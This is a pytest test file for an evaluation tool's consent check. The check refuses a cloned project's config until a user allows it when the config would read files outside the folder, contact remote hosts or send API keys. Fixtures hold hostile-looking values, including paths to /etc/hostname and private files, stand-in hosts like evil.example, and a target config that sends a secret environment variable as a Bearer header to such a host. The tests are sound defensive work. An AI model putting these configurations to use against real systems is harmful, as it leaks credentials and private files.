"""What a project file would do beyond computing from the files of its folder is asked for first."""

import json
from pathlib import Path

import pytest

import metrics
from metrics.cli.main import main
from metrics.cli.project_acts import acts_of
from metrics.cli.run_command import read_evaluations
from metrics.core.errors import InputError
from metrics.core.plugin_consent import refuse_unasked_acts
from metrics.engine.evaluation import Evaluation
from metrics.engine.evaluation_fields import Shape, shape_of
from metrics.judge.keys import ALLOWED, KEY
from metrics.store import Workspace
from tests.cli.every_command import write_folder

EVALUATION = '[evaluate.a]\nsuite = "suite.jsonl"\noutputs = "outputs.jsonl"\nevaluators = ["rouge"]\n'
# Texts of these name no file, no address and no code, whatever stands in them.
NAME_NOTHING = {
    "decisive", "encoding", "evaluators", "fail_if_worse", "fail_under", "judge_budget", "judge_option", "map",
    "model_name", "name", "non_inferior", "preset", "read", "scale", "shard", "sheet", "target_budget", "threshold",
    "weight", "where",
}  # fmt: skip
TEXTS = (Shape.TEXT, Shape.TEXTS, Shape.NAMES, Shape.SOME, Shape.PAIRS)
FORMS = ("{}", "x={}", "@{}", "x=@{}", "local:{}")


@pytest.fixture
def folder(tmp_path: Path, workspace: Path, units_here: None, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A folder as somebody has cloned it, with files beside it that are not of it."""
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path / "state"))
    monkeypatch.delenv(KEY, raising=False)
    own = tmp_path / "project"
    own.mkdir()
    monkeypatch.chdir(own)
    write_folder(own)
    (tmp_path / "private.txt").write_text("{question} private")
    return own


def write_project(folder: Path, keys: str) -> None:
    (folder / "assay.toml").write_text(EVALUATION + keys + "\n")


def acts_for(folder: Path, **values: object) -> list[str]:
    """What is asked for of an evaluation with these values."""
    return [act.text for act in acts_of({"suite": "suite.jsonl", **values}, folder)]


def test_options_that_name_nothing_are_options():
    assert Evaluation.model_fields.keys() >= NAME_NOTHING


@pytest.mark.parametrize("name", [
    name for name, field in Evaluation.model_fields.items()
    if shape_of(field) in TEXTS and name not in NAME_NOTHING | {"plugin", "config", "target", "case_timeout"}
])  # fmt: skip
@pytest.mark.attack(
    "suite author", "the project file of a cloned folder names a file or an address in any option",
    "each option whose form names a place is asked for",
)  # fmt: skip
def test_each_option_that_names_a_place_is_asked_for(folder, name):
    forms = FORMS if name not in ("target_prompt", "target_system") else [form for form in FORMS if "@" in form]
    for place in ("/etc/hostname", "../private.txt", "~/x", ".git/config"):
        if name == "scheduler" or name.endswith("base_url"):
            break
        for form in forms:
            assert acts_for(folder, **{name: form.format(place)}), (name, form, place)
            assert not acts_for(folder, **{name: form.format("suite.jsonl")}), (name, form)
    if name not in ("target_prompt", "target_system"):
        assert acts_for(folder, **{name: "https://evil.example/x"})
        assert acts_for(folder, **{name: "s3://bucket/x"})


@pytest.mark.parametrize("keys", [
    'target_prompt = "@../private.txt"\ntarget = "http://127.0.0.1:9/"', 'images = "/etc"', 'label_map = "../map.csv"',
    'junit = "/tmp/gates.xml"', 'pdf = ".git/x.html"', 'markdown = "link.md"', 'pdf = "../report.html"',
    'prompt = { byop = "../private.txt" }', 'rubric = "link.md"', 'replay = "../cache.zip"', 'embedder = "/models/x"',
    'workspace = "../elsewhere"', 'scheduler = "tcp://evil.example:8786"', 'baseline = "../run.zip"',
    'judge = "huggingface/https://evil.example"', 'param.code_execution.allow = true',
    'param = ["sql_execution.allow=true"]', 'param.sentiment.classifier = "/etc"', 'target = "bot.yaml"',
    'target = "named.yaml"', 'prompt = { ragas = "prompts" }', 'config = "rag.yaml"',
])  # fmt: skip
@pytest.mark.attack(
    "suite author", "the project file of a cloned folder reads, writes, runs or sends something by itself",
    "asked once, for these files",
)  # fmt: skip
def test_a_run_refuses_it_until_it_is_allowed(folder, keys, capsys, monkeypatch):
    (folder / "link.md").symlink_to("../private.txt")
    (folder / "prompts").mkdir()
    (folder / "prompts" / "x.txt").symlink_to("../../private.txt")
    monkeypatch.setenv("SECRET_OF_MINE", "s")
    headers = {"Authorization": "Bearer {SECRET_OF_MINE}"}
    (folder / "bot.yaml").write_text(json.dumps({"url": "http://evil.example/", "headers": headers}))
    (folder / "named.yaml").write_text(json.dumps({"model": "local:../x.gguf", "name": "harmless"}))
    (folder / "answers.csv").write_text("query_id,query,passage,generated_answer\n1,q,p,a\n")
    config = {"generated_answers": "answers.csv", "eval_results_file": "../x.csv", "evaluator": {"type": "TREC"}}
    (folder / "rag.yaml").write_text(json.dumps(config))
    write_project(folder, keys)
    if keys.startswith("config"):
        (folder / "assay.toml").write_text(f"[evaluate.a]\n{keys}\n")
    assert main(["run"]) == 2
    told = capsys.readouterr().err
    assert "what nobody has allowed" in told
    assert f"`python -m metrics plugins allow {folder}`; in CI ASSAY_ALLOW_PLUGINS=1" in told
    assert not Workspace().runs()
    assert not (folder.parent / "report.html").exists()
    assert main(["plugins", "allow"]) == 0
    assert "allowed: " in capsys.readouterr().out
    main(["run", "--dry-run"])
    assert "what nobody has allowed" not in capsys.readouterr().err


def test_what_stays_in_the_folder_is_not_asked_for(folder):
    write_project(folder, 'pdf = "r.html"\njunit = "out/j.xml"\ntarget_system = "/no_think: see https://x.example"')
    assert main(["run"]) == 0
    assert (folder / "r.html").exists()


@pytest.mark.attack(
    "suite author", "the project file of a cloned folder has a key sent to its address",
    "sent with leave, or to what ASSAY_TARGET_KEYS names",
)  # fmt: skip
@pytest.mark.parametrize("keys", [
    'judge = "m@{}"', 'judge = "m"\njudge_base_url = "{}"', 'judge = ["local", "m@{}"]',
    'judge = {{ model = "m", base_url = "{}" }}', 'target = "m"\ntarget_base_url = "{}"',
])  # fmt: skip
def test_an_address_gets_a_key_only_with_leave(folder, keys, monkeypatch, capsys):
    url = "http://127.0.0.1:9/v1"
    monkeypatch.delenv(KEY, raising=False)
    monkeypatch.delenv(ALLOWED, raising=False)
    write_project(folder, keys.format(url))
    acts = [*acts_of(read_evaluations(folder / "assay.toml")["a"], folder)]
    assert [act.text for act in acts] == [f"sends {KEY} to {url}"]
    assert not acts[0].needs_leave(), "there is no key"
    monkeypatch.setenv(KEY, "sk-of-mine-0123456789")
    assert acts[0].needs_leave()
    assert main(["run"]) == 2
    assert f"=1): sends {KEY} to {url}\n" in capsys.readouterr().err
    monkeypatch.setenv(ALLOWED, f"{KEY}@127.0.0.1")
    assert not acts[0].needs_leave()


def test_any_change_asks_again_and_only_what_was_listed_is_allowed(folder, monkeypatch):
    monkeypatch.delenv(KEY, raising=False)
    write_project(folder, 'prompt = { byop = "link" }')
    (folder / "link").symlink_to("../private.txt")
    main(["plugins", "allow"])
    assert not is_refused(folder)
    (folder / "link").unlink()
    (folder / "link").symlink_to("/etc/hostname")
    assert is_refused(folder), "it leads elsewhere"
    main(["plugins", "allow"])
    assert not is_refused(folder)
    write_project(folder, 'prompt = { byop = "link" }\nseed = 1')
    assert is_refused(folder), "the project file has changed"
    monkeypatch.setenv("ASSAY_ALLOW_PLUGINS", "1")
    assert not is_refused(folder)


def is_refused(folder: Path) -> bool:
    """Whether something that the project file would do is not allowed."""
    acts = acts_of(read_evaluations(folder / "assay.toml")["a"], folder)
    try:
        refuse_unasked_acts(folder / "assay.toml", [act.text for act in acts])
    except InputError:
        return True
    return False


def test_another_project_file_is_allowed_by_its_name(folder, capsys):
    write_project(folder, 'pdf = "../r.html"')
    (folder / "assay.toml").rename(folder / "ci.toml")
    assert main(["run", "ci.toml"]) == 2
    assert f"plugins allow {folder / 'ci.toml'}`" in capsys.readouterr().err
    assert main(["plugins", "allow", "ci.toml"]) == 0
    assert main(["run", "ci.toml"]) == 0
    assert (folder.parent / "r.html").exists()


def test_python_takes_nothing_of_its_evaluations(folder):
    """Python and the pytest plugin know only the plugins of a project file: they evaluate what they are given."""
    write_project(
        folder, 'pdf = "../r.html"\nworkspace = "../elsewhere"\n[defaults]\nparam.code_execution.allow = true'
    )
    run = metrics.evaluate("suite.jsonl", "outputs.jsonl", evaluators=["rouge"])
    assert run.workspace.path == Workspace().path
    assert not (folder.parent / "r.html").exists()
    assert not (folder.parent / "elsewhere").exists()
